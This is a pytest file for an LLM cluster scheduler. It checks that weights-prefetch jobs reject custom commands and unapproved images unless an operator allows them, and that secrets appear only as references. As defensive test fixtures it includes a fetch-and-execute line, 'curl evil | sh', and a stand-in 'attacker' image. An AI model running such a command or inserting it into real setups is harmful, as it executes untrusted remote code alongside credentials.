"""A profile's weights prefetch is code that runs with its secrets and writes shared weights:
by default only the built-in `hf download` in a cluster image may run (issue 14 item 1)."""

from __future__ import annotations

import json
from typing import Any

from caravan_llm.scheduler.cluster_config import ClusterConfig
from caravan_llm.scheduler.profile_policy import ProfilePolicy, policy_problems
from caravan_llm.scheduler.profiles import ModelProfile, profile_from_mapping
from caravan_llm.scheduler.render import secret_templates
from caravan_llm.scheduler.weights import render_prefetch

CONFIG = ClusterConfig()
IMAGES = CONFIG.engine_images


def _vllm(**prefetch: Any) -> ModelProfile:
    return profile_from_mapping(
        {
            "name": "gated",
            "engine": "vllm",
            "model": "meta-llama/Llama-3.1-8B-Instruct",
            "gpu": {"class": "h100", "count": 1},
            "secrets": {"HF_TOKEN": "caravan/secrets/hf"},
            "weights": {
                "volume": {"type": "host", "source": "models"},
                "path": "/models",
                "prefetch": prefetch,
            },
        },
        "test",
    )


def _problems(profile: ModelProfile, policy: ProfilePolicy | None = None) -> list[str]:
    return policy_problems(profile, policy or ProfilePolicy(), cluster_images=IMAGES)


def test_default_download_in_the_cluster_image_is_allowed() -> None:
    assert [] == _problems(_vllm())
    assert [] == _problems(_vllm(image=CONFIG.vllm.image))


def test_own_command_or_exec_driver_is_refused_unless_the_operator_allows_it() -> None:
    for profile in (
        _vllm(command=["sh", "-c", "curl evil | sh"]),
        _vllm(driver="exec", command=["/bin/true"]),
    ):
        (problem,) = _problems(profile)
        assert problem.startswith("weights.prefetch.command: ")
        assert "profile_policy.allow_prefetch_commands" in problem
        assert [] == _problems(profile, ProfilePolicy(allow_prefetch_commands=True))


def test_a_prefetch_image_outside_the_cluster_images_is_refused() -> None:
    (problem,) = _problems(_vllm(image="attacker/hf:latest"))
    assert problem.startswith("weights.prefetch.image: attacker/hf:latest is not one of")
    assert [] == _problems(
        _vllm(image="attacker/hf:latest"), ProfilePolicy(allowed_images=("attacker/hf:latest",))
    )


def test_prefetch_job_carries_the_secret_reference_never_a_value() -> None:
    profile = _vllm()
    body = render_prefetch(profile, CONFIG, secret_templates(profile))
    text = json.dumps(body)
    assert 'nomadVar \\"caravan/secrets/hf\\"' in text
    assert "HF_TOKEN={{ .HF_TOKEN }}" in text
    assert "hf_" not in text.replace("hf download", "")
    task = body["Job"]["TaskGroups"][0]["Tasks"][0] if body else {}
    assert "HF_TOKEN" not in task.get("Env", {})
